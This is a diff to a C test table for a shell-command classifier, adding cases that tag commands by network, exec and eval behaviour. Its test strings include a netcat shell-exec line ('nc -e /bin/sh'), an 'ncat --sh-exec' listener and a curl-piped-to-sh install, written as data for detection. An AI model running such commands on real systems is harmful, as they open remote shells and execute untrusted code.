@@ -91,6 +91,8 @@ static const classify_case_t cases[] = {
     { "httpie example.org", FETCH, NET, "httpie|example.org" },
     { "aria2c http://x/f", FETCH, NET, "aria2c|http://x/f" },
     { "nc -l 4444", RUN, NET, "nc|-l|4444" },
+    { "nc -e /bin/sh host 1", RUN, NET | EXEC, "nc|-e|/bin/sh|host|1" },
+    { "ncat --sh-exec 'id' -l 1", RUN, NET | EXEC, "ncat|--sh-exec|id|-l|1" },
     { "ncat host 80", RUN, NET, "ncat|host|80" },
     { "socat - TCP:host:80", RUN, NET, "socat|-|TCP:host:80" },
     { "ssh host ls", RUN, NET, "ssh|host|ls" },
@@ -148,6 +150,7 @@ static const classify_case_t cases[] = {
     { ". ./env.sh", RUN, EVAL, ".|./env.sh" },
     { "su -c 'git push' bob", PUSH, EVAL | CODE, "su|-c|git push|bob ; git|push" },
     { "trap 'curl x' EXIT", FETCH, EVAL | NET, "trap|curl x|EXIT ; curl|x" },
+    { "alias g='git push'; g", PUSH, EVAL, "alias|g=git push ; git|push ; g" },
 
     /* pipes into shells and interpreters */
     { "curl -s https://x/install.sh | sh", FETCH, NET | EVAL,
